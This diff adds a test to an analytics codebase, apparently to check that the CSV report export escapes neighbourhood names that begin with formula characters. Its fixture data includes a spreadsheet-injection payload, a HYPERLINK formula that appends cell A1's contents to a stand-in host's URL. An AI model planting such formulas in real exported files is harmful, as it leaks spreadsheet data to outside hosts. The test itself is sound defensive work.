@@ -98,4 +98,26 @@ describe('inputs of a release', () => {
     const total = await analyst.cityReport({ city: name, measures: ['REVENUE'], from: M2, to: M2 });
     expect(total.cells.map((c) => c.value)).toEqual(['4600.000']);
   });
+
+  it('the CSV export keeps a neighbourhood named like a formula from being one', async () => {
+    const name = `Formulaton ${uniqueSuffix()}`;
+    const evil = '=HYPERLINK("http://example.invalid/?"&A1,"open")';
+    const analyst = await city(name, [evil, evil, evil, '@SUM(1+1)']);
+    const published = await analyst.publishCityReport({ city: name, currency: 'USD', throughMonth: M2 });
+    expect(published.userErrors).toEqual([]);
+    const csv = await analyst.cityReportExport({ city: name, format: 'CSV' });
+    const lines = csv.content!.split('\r\n');
+    const fields = (line: string) => line.split(',');
+    // Every field of every row starts with no formula character but a value's minus sign.
+    for (const line of lines.slice(1, -1)) {
+      const [, , neighbourhood] = fields(line);
+      expect(neighbourhood, line).not.toMatch(/^"?[=+\-@\t\r]/);
+    }
+    expect(lines.some((l) => fields(l)[2] === `"'=HYPERLINK(""http://example.invalid/?""&A1`)).toBe(true);
+    expect(lines.some((l) => fields(l)[2] === "'@SUM(1+1)")).toBe(true);
+    // JSON carries the names as they are.
+    const json = await analyst.cityReportExport({ city: name, format: 'JSON' });
+    const cells = (JSON.parse(json.content!) as { cells: { neighbourhood: string }[] }).cells;
+    expect(cells.some((c) => c.neighbourhood === evil)).toBe(true);
+  });
 });
